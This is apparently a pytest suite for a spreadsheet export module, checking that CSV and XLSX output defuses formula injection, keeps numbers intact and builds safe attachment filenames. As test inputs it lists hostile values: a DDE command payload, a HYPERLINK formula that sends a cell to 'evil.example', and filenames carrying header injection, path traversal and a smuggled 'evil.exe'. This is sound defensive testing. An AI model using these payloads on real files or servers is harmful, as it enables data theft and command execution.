from __future__ import annotations

import csv
import io
from datetime import date
from email.message import Message

import openpyxl
import pytest

from smallfires.faces.sheets import Sheet, attached, csv_of, figure, harmless, xlsx_of

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\n-2+3", "＝1+1", "＠x", "-", "=",
    '=HYPERLINK("http://evil.example?"&A1)', "a;=1+1", "a\t=1+1", "a\n=1+1", "a|@x", '";=1+1', "-2+3+cmd",
]  # fmt: skip


def read(content: bytes, delimiter: str = ",") -> list[list[str]]:
    """What a spreadsheet reads of a file of CSV."""
    return list(
        csv.reader(
            io.StringIO(content.decode("utf-8-sig").replace("\r\n", "\n").replace("\r", "\n")), delimiter=delimiter
        )
    )


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_becomes_a_formula(text):
    """A text that a spreadsheet would work out begins with an apostrophe in CSV, in every country, and is text in Excel."""
    sheet = Sheet("x", ["a", text], [[text, 1]])
    content = csv_of(sheet)
    for delimiter in ",;\t|":
        for row in read(content, delimiter):
            assert not [cell for cell in row if cell.strip('" \t\r\n')[:1] in tuple("=+-@＝＋－＠") and cell.strip('"')]
    page = openpyxl.load_workbook(io.BytesIO(xlsx_of(sheet))).active
    assert [cell.data_type for cell in page[1]] == ["s", "s"]
    assert [cell.data_type for cell in page[2]] == ["s", "n"]


def test_figures_stay_figures():
    """A figure, and a text that is a plain one, can be worked with; what is no figure is empty."""
    rows = [[-1.5, 3, "-4", "1e5", float("nan"), None, date(2026, 1, 2), True]]
    assert read(csv_of(Sheet("x", list("abcdefgh"), rows)))[1] == [
        "-1.5",
        "3",
        "-4",
        "1e5",
        "",
        "",
        "2026-01-02",
        "True",
    ]
    page = openpyxl.load_workbook(io.BytesIO(xlsx_of(Sheet("x", list("abcdefgh"), rows)))).active
    assert [cell.value for cell in page[2]][:2] == [-1.5, 3]
    assert [figure(text) for text in ("1,234", "−3.5", "12 %", "4")] == [1234, -3.5, "12 %", 4]


@pytest.mark.parametrize(
    "text", ["a, -b", "x = y", "mail@example.org", "Ward 7", "a-b", "3 + 4", "Süd\u202e", "", "🔥"]
)
def test_other_texts_stay_as_they_are(text):
    """What no spreadsheet would work out is left letter for letter."""
    assert harmless(text) == text
    assert read(csv_of(Sheet("x", ["a"], [[text]])))[1] == [text]


def test_what_excel_cannot_hold_is_left_out():
    """Signs that would break a workbook go, a cell is never too long, and every sheet has a name of its own."""
    sheets = [
        Sheet("[a]:*?/\\b" * 9, ["x"], [["a\x00b\x1f\ud800", "y" * 40_000]]),
        Sheet("", [], []),
        Sheet("", [], []),
    ]
    book = openpyxl.load_workbook(io.BytesIO(xlsx_of(*sheets)))
    assert [len(name) <= 31 for name in book.sheetnames] == [True] * 3
    assert len({name.lower() for name in book.sheetnames}) == 3
    assert [cell.value for cell in book.worksheets[0][2]] == ["ab", "y" * 32_767]
    assert read(csv_of(sheets[0]))[1][0] == "ab"


def test_several_tables_stand_one_behind_the_other():
    """Each table in a file of CSV has its name, its heads and its rows."""
    found = read(csv_of(Sheet("One", ["a"], [[1]]), Sheet("Two", ["b"], [[2]])))
    assert [row for row in found if row] == [["One"], ["a"], ["1"], ["Two"], ["b"], ["2"]]


@pytest.mark.parametrize(
    "name",
    ['x"; filename="evil.exe', "../../etc/passwd", "a\r\nSet-Cookie: x=1",
     "Übergabe Süd", "引き継ぎ", "", ".", "a\0b", "x" * 500, "%0d%0a", "\ud800"],
)  # fmt: skip
def test_a_name_is_only_a_name(name):
    """Whatever something is called, the header holds one name, without a path, and nothing else."""
    header = attached(name, "csv")
    header.encode("latin-1")
    assert "\r" not in header
    assert "\n" not in header
    told = Message()
    told["content-disposition"] = header
    assert told.get_content_disposition() == "attachment"
    assert header.count("filename=") == header.count("filename*=") == 1
    assert header.split("filename*=")[0].count(chr(34)) == 2
    assert told.get_filename().endswith(".csv")
    assert "/" not in told.get_filename()
